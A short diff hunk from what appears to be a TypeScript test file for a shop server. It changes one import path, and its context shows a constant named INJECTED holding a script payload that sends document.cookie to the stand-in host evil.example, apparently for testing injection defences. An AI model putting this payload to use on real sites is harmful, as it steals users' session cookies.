@@ -8,7 +8,7 @@ import { openShop, type TestShop } from '#test/shop.ts'
 import { ensureBuilt } from '#test/torture/running-shop.ts'
 import { sendRequest, listen } from '#test/wire.ts'
 import { MINUTE } from '../time/clock.ts'
-import type { Pages } from './pages.ts'
+import type { Pages } from './render.ts'
 
 const BUILT = join(import.meta.dirname, '../../build/site/server/index.js')
 const INJECTED = 'fetch("https://evil.example/" + document.cookie)'
